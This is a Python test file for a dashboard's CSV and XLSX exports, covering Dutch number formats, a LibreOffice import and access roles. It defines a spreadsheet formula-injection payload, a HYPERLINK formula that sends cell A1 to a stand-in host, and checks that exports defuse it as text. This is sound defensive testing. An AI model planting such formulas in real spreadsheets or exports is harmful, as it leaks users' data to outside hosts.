"""Exports of the dashboard's figures (#17 item 2): CSV in the reader's spreadsheet convention, XLSX with numbers
as numbers, and a Dutch CSV that LibreOffice, opened as a Dutch user's spreadsheet would, reads as numbers."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess

import openpyxl
import pytest

from servicepulse.kernels.spreadsheet import csv_text, xlsx_bytes

from .conftest import login

ATTACK = '=HYPERLINK("http://x?"&A1)'


def test_csv_follows_the_spreadsheet_convention_of_the_language():
    header, rows = ["name", "grade", "n", "share"], [["Bezoek", 6.5, 120, None], [ATTACK, -0.25, 3, 0.5]]
    dutch = csv_text(header, rows, "nl")
    assert dutch.startswith("\ufeffname;grade;n;share\r\n")  # the mark tells Excel the file is UTF-8
    parsed = list(csv.reader(io.StringIO(dutch.removeprefix("\ufeff")), delimiter=";"))
    assert parsed[1] == ["Bezoek", "6,5", "120", ""]  # too few answers: empty, never 0
    assert parsed[2] == ["'" + ATTACK, "-0,25", "3", "0,5"]  # a formula stays text; a negative number a number
    english = list(csv.reader(io.StringIO(csv_text(header, rows, "en").removeprefix("\ufeff"))))
    assert english[1] == ["Bezoek", "6.5", "120", ""]


def test_xlsx_keeps_numbers_as_numbers():
    data = xlsx_bytes(["name", "grade", "n"], [["Bezoek", 6.5, 120], [ATTACK, None, 3]], sheet="cijfers")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.title == "cijfers"
    assert [c.value for c in sheet[2]] == ["Bezoek", 6.5, 120]
    assert sheet["A3"].value == "'" + ATTACK and sheet["B3"].value is None
    assert sheet.freeze_panes == "A2"


@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice not found: install Debian's libreoffice-calc-nogui to run this test")
def test_libreoffice_reads_a_dutch_csv_export_as_numbers(tmp_path):
    """The import a Dutch LibreOffice does: ';' separated, UTF-8, Dutch (1043) number format."""
    rows = [["Storing melden", 7.2, 926, 0.61], ["Wachten op de monteur", 4.9, 554, 0.125]]
    source = tmp_path / "cijfers.csv"
    source.write_text(csv_text(["moment", "cijfer", "n", "aandeel"], rows, "nl"), encoding="utf-8")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--infilter=CSV:59,34,76,1,,1043", "--convert-to", "xlsx", "--outdir", str(tmp_path),
                    str(source)], check=True, capture_output=True, timeout=180)
    sheet = openpyxl.load_workbook(tmp_path / "cijfers.xlsx").active
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert values == rows  # numbers, with their decimals, not texts and not dates


@pytest.fixture
def dutch_analyst(client, make_user):
    make_user("an@example.org", role="analyst", language="nl")
    assert login(client, "an@example.org").status_code == 303
    return client


def _nps(scores) -> float:
    scores = scores.dropna()
    return 100 * ((scores >= 9).sum() - (scores <= 6).sum()) / len(scores)


def test_the_overview_figures_download_as_csv_and_xlsx(dutch_analyst, small):
    page = dutch_analyst.get("/metrics?period=month")
    assert "/metrics/export.csv?period=month" in page.text and "/metrics/export.xlsx?period=month" in page.text
    response = dutch_analyst.get("/metrics/export.csv?period=month")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header[:5] == ["Deel", "Sleutel", "Naam", "Volledig (1 = ja)", "Antwoorden"]
    total = dict(zip(header, body[0], strict=True))
    frame = small.frame
    assert int(total["Antwoorden"]) == len(frame)
    assert float(total["NPS"].replace(",", ".")) == pytest.approx(_nps(frame["nps"]), abs=1e-6)  # independent
    assert float(total["Rapportcijfer"].replace(",", ".")) == pytest.approx(frame["grade"].mean(), abs=1e-9)
    periods = [dict(zip(header, r, strict=True)) for r in body if r[0] == "periode"]
    months = frame["submitted_at"].map(lambda d: d.strftime("%Y-%m-01")).value_counts()
    assert {p["Sleutel"]: int(p["Antwoorden"]) for p in periods} == months.to_dict()
    journeys = [r for r in body if r[0] == "klantreis"]
    assert [r[2] for r in journeys] == ["Reparatie"]
    workbook = dutch_analyst.get("/metrics/export.xlsx?period=month")
    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content)).active
    assert sheet["E2"].value == len(frame) and isinstance(sheet["F2"].value, float)


def test_exports_follow_the_page_roles(client, make_user, small):
    make_user("agent@example.org", role="agent", language="nl")
    login(client, "agent@example.org")
    assert client.get("/metrics/export.csv").status_code == 403
    assert client.get("/improvement/scan.xlsx").status_code == 403
